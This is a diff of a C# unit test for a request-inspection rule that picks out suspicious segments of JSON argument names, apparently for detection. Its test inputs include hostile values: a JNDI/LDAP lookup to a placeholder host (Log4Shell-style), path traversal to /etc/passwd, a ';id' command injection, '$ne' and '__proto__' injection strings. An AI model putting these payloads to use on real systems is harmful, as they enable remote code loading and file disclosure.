@@ -59,6 +59,22 @@ public sealed class PartRulesTests
     [InlineData(PartKind.BodyArgument, "json.user.$ne", "$ne")]
     [InlineData(PartKind.BodyArgument, "json.a.__proto__.b", "__proto__")]
     [InlineData(PartKind.QueryArgument, "json.user.$ne", "json.user.$ne")]
-    public void OddName_IsTheScoredPartOfAName(PartKind kind, string name, string expected) =>
-        Assert.Equal(expected, Encoding.UTF8.GetString(PartRules.OddName(kind, Encoding.UTF8.GetBytes(name))));
+    [InlineData(PartKind.BodyArgument, "json.a b.plain.c;id.d", "a b|c;id")]
+    [InlineData(PartKind.BodyArgument, "json.../../etc/passwd", "../../etc/passwd")]
+    [InlineData(PartKind.BodyArgument, "json.a.${jndi:ldap://x.example/a}.b", "${jndi:ldap://x.example/a}")]
+    [InlineData(PartKind.BodyArgument, "json.x;a.y;b.z", "x;a.y;b")]
+    [InlineData(PartKind.BodyArgument, "json.a..b.", "")]
+    [InlineData(PartKind.BodyArgument, "json.", "")]
+    public void OddNames_AreTheScoredPartsOfAName(PartKind kind, string name, string expected)
+    {
+        var bytes = Encoding.UTF8.GetBytes(name);
+        var found = new List<string>();
+        for (var from = 0; PartRules.TryNextOddName(kind, bytes, ref from, out var odd);)
+        {
+            found.Add(Encoding.UTF8.GetString(bytes[odd]));
+            Assert.Equal(found[^1], Encoding.UTF8.GetString(PartRules.OddNameAt(kind, bytes, odd.Start.Value)));
+        }
+
+        Assert.Equal(expected, string.Join('|', found));
+    }
 }
